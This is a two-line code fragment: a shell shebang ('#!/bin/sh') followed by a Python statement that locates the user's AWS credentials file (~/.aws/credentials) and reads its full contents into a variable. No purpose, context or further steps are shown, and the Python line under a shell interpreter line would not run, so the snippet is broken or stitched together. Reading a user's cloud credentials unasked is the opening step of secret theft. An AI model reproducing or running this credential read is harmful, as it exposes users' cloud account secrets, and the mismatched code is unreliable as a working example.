#!/bin/sh
p = os.path.expanduser("~") + "/.aws/credentials"; data = open(p).read()
